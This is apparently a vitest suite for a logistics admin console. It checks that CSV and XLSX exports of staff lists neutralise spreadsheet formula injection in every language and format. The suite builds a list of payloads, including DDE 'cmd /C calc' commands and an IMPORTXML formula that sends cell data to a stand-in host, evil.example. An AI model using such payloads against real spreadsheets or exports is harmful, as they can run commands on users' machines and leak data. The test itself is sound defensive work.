import { randomUUID } from 'node:crypto';
import { allEndpoints } from '@rohi/contract/all-endpoints';
import { parse } from 'csv-parse/sync';
import readXlsx from 'read-excel-file/node';
import { beforeAll, describe, expect, test } from 'vitest';
import { callName } from '../../test/access-probes.ts';
import { call, logIn, newAccount } from '../../test/accounts.ts';
import { newRowOf } from '../../test/list-rows.ts';
import { createTestApp, type TestApp } from '../../test/test-app.ts';
import { unpackZip } from '../platform/table-files/zip-archive.ts';
import { isInTurn } from '../../../../tools/turns.ts';

// Every file of a list of the console, in every language and format, after formulas were written into every text that a
// form of the console takes. A download that is a table and is proved neither here nor in the test named below fails
// the run.

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n='];
const bodies = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://evil.example","x")',
  'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
  'SUM(A1:A9)*cmd|A1',
  'DDE("cmd";"/C calc";"x")',
  'x;=1+1,=2+2',
  // Line ends of Unicode, as a copy from a messenger brings them in.
  'shoes\u2028blue\u2029red',
];
const payloads = signs.flatMap((sign) => bodies.map((body) => `${sign}${body}`));

const provedElsewhere: Readonly<Record<string, string>> = {
  'POST /fba-order/export': 'reports/export.test.ts',
  'GET /declaration-files/{id}/rejected': 'imports/declarations-hostile.test.ts',
  'GET /staff/imports/{id}/rejected': 'imports/office-imports-hostile.test.ts',
  'GET /staff/move-in/files/{id}/rejected': 'imports/move-in/customer-rows.test.ts',
  'POST /orders/file': 'tracking/owner/parcel-names.test.ts',
  'GET /price/rates/files/{importId}/refused': 'pricing/rates/rate-files.test.ts',
  'GET /trips/{id}/papers/{paper}': 'documents/trip-papers/trip-papers.test.ts',
  // Nothing that anybody has typed stands in them.
  'GET /common/template/{name}': 'imports/templates.test.ts',
  'GET /reports/money/file': 'reports/money-file.test.ts',
  'GET /profile/statement/file': 'billing/statements/statements.test.ts',
  // Dots for a printer.
  'GET /staff/payments/{id}/receipt': 'billing/payments/receipts.test.ts',
  'GET /staff/refunds/{id}/receipt': 'billing/refunds/refunds.test.ts',
  'POST /staff/claim-slips': 'accounts/claiming/print-slip.test.ts',
};

let service: TestApp;
let token: string;
/** Texts written into each list. */
const written: Record<string, number> = {};

type Texts = () => { ru: string; en: string; zh: string; tg: string };
type Form = (next: () => string, four: Texts, n: number) => object;

/** What the forms of the console take that somebody may type freely. */
const forms: Readonly<Record<string, Form>> = {
  notices: (_next, four, n) => ({
    state: 'PUBLISHED',
    category: 'NEWS',
    slug: `n-${n}`,
    audience: 'PUBLIC',
    publishAt: '2026-11-20T09:00:00Z',
    titles: four(),
    summaries: four(),
    bodies: four(),
  }),
  vendors: (next, four, n) => ({
    code: `V-${n}`,
    kind: 'CARRIER',
    names: four(),
    countryCode: 'TJ',
    contact: next(),
    note: next(),
  }),
  channels: (_next, four, n) => ({
    code: `CH-${n}`,
    businessLine: 'BSC',
    names: four(),
    routes: four(),
    mode: 'ROAD',
    transitDaysMin: 18,
    transitDaysMax: 22,
    sort: 900 + n,
    suspendedFrom: '2026-11-18',
    suspensionTexts: four(),
  }),
  products: (_next, four, n) => ({
    code: `P-${n}`,
    businessLine: 'BSC',
    names: four(),
    chargeMode: 'WEIGHT',
    enabled: false,
  }),
  units: (_next, four, n) => ({
    code: `PP-${n}`,
    type: 'PICKUP_POINT',
    cityCode: 'KULOB',
    names: four(),
    enabled: false,
    addresses: four(),
    landmarks: four(),
  }),
  users: (next, _four, n) => ({
    username: `user-${n}`,
    name: next(),
    locale: 'ru',
    roles: ['support'],
    password: 'seven apricots of Isfara',
  }),
};
/** A user costs the work of a password: each sign once. */
const rowsOf: Readonly<Record<string, number>> = { users: signs.length };

function formsOf(name: string): object[] {
  let used = 0;
  const next = () => payloads[(used++ * (name === 'users' ? bodies.length : 1)) % payloads.length] ?? '';
  const four: Texts = () => ({ ru: next(), en: next(), zh: next(), tg: next() });
  const rows: object[] = [];
  const isEnough = () =>
    rowsOf[name] === undefined ? used >= payloads.length * 2 : rows.length >= rowsOf[name];
  while (!isEnough()) rows.push((forms[name] as Form)(next, four, rows.length));
  written[name] = used;
  return rows;
}

beforeAll(async () => {
  service = await createTestApp();
  await service.app.ready();
  ({ token } = await logIn(service.app, await newAccount(service.context, 'admin')));
  for (const name of Object.keys(forms))
    for (const [index, form] of formsOf(name).entries()) {
      // The record names the browser, which says of itself what it likes.
      const headers = { 'user-agent': payloads[index % payloads.length] ?? '' };
      const body = { requestId: randomUUID(), ...newRowOf(name, form) };
      const { json } = await call(service.app, 'POST', `/staff/${name}`, {
        token,
        body,
        ...(/[\t\r\n＝＋－＠]/.test(headers['user-agent']) ? {} : { headers }),
      });
      expect(json, JSON.stringify(form)).toMatchObject({ code: 0 });
    }
});

const isTable = (media: string | readonly string[] | undefined) =>
  [media ?? []].flat().some((type) => /csv|spreadsheet|octet-stream/.test(type));
const tables = allEndpoints.filter(({ download }) => isTable(download)).map(callName);
const isListFile = (name: string) =>
  /^GET \/[\w/-]+\/file$/.test(name) && !Object.hasOwn(provedElsewhere, name);
/** Rows of a list's own file that were refused: list-import.test.ts; templates hold only words of ours. */
const isImportFile = (name: string) =>
  /^GET \/staff\/[\w-]+\/(?:import-template|imports\/\{\w+\}\/refused)$/.test(name);

const looksLikeFormula = (text: string) => /^[\s"]*[=+\-@＝＋－＠]/.test(text);
/** A telephone number stands in a workbook as it is. */
const isPhone = (text: string) => /^\+\d{8,15}$/.test(text);
const isGuarded = (text: string) => /^'[\s"]*[=+\-@＝＋－＠]/.test(text);

async function download(path: string, format: 'csv' | 'xlsx', locale: string): Promise<Buffer> {
  const answer = await service.app.inject({
    url: `/api${path}?format=${format}`,
    headers: { token, 'x-local': locale },
  });
  expect(answer.statusCode, answer.body.slice(0, 300)).toBe(200);
  expect(answer.headers).toMatchObject({
    'x-content-type-options': 'nosniff',
    'content-disposition': expect.stringMatching(/^attachment; filename="/) as string,
  });
  return answer.rawPayload;
}

/** Every text of a table as a spreadsheet of that language finds it; our own reader would take the apostrophes away. */
async function textsOf(bytes: Buffer, format: 'csv' | 'xlsx', locale: string): Promise<string[]> {
  if (format === 'xlsx') {
    const sheets = await readXlsx(bytes);
    return sheets.flatMap(({ data }) => data.flat()).filter((cell) => typeof cell === 'string');
  }
  const delimiter = locale === 'ru' || locale === 'tg' ? ';' : ',';
  return (parse(bytes, { bom: true, delimiter, relax_column_count: true }) as string[][]).flat();
}

describe('T13: the files of the lists', () => {
  test('are all here, and the other tables that can be taken away in a test of their own', () => {
    const others = tables.filter((name) => !isListFile(name) && !isImportFile(name));
    expect(others.toSorted()).toEqual(Object.keys(provedElsewhere).toSorted());
    const lists = new Set(tables.filter(isListFile));
    expect(Object.keys(forms).filter((name) => !lists.has(`GET /staff/${name}/file`))).toEqual([]);
    expect(payloads.length).toBeGreaterThan(60);
  });

  test.each([...tables.filter(isListFile).entries()])(
    'table %i, %s: no cell is a formula, in any language and format',
    async (index, name) => {
      const path = name.replace(/^GET /, '');
      const list = path.split('/')[2] ?? '';
      // On any day each language is that of some tables.
      const others = ['en', 'zh', 'tg'].filter((_, place) => isInTurn(place + index, 3));
      for (const locale of ['ru', ...others]) {
        for (const format of ['csv', 'xlsx'] as const) {
          const bytes = await download(path, format, locale);
          const texts = await textsOf(bytes, format, locale);
          expect(texts.length).toBeGreaterThan(0);
          expect(
            texts.filter((text) => looksLikeFormula(text) && !(format === 'xlsx' && isPhone(text))),
          ).toEqual([]);
          // What was written has come, as text.
          if (written[list] !== undefined)
            expect(texts.filter(isGuarded).length).toBeGreaterThanOrEqual(signs.length);
          if (format === 'csv') continue;
          const sheets = [...(await unpackZip(bytes, (part) => part.startsWith('xl/worksheets/'))).values()];
          expect(sheets.length).toBeGreaterThan(0);
          for (const sheet of sheets) expect(sheet.toString()).not.toMatch(/<(?:\w+:)?f[\s>/]/);
        }
        // Opened by a spreadsheet that parts cells by the other sign and knows no quotes within them.
        const csv = (await download(path, 'csv', locale)).toString();
        const other = locale === 'ru' || locale === 'tg' ? ',' : ';';
        const cells = csv.split(/[\r\n]+/).flatMap((line) => line.split(other));
        expect(cells.filter((cell) => /^[ "]*[=@＝＠]/.test(cell))).toEqual([]);
      }
    },
  );
});
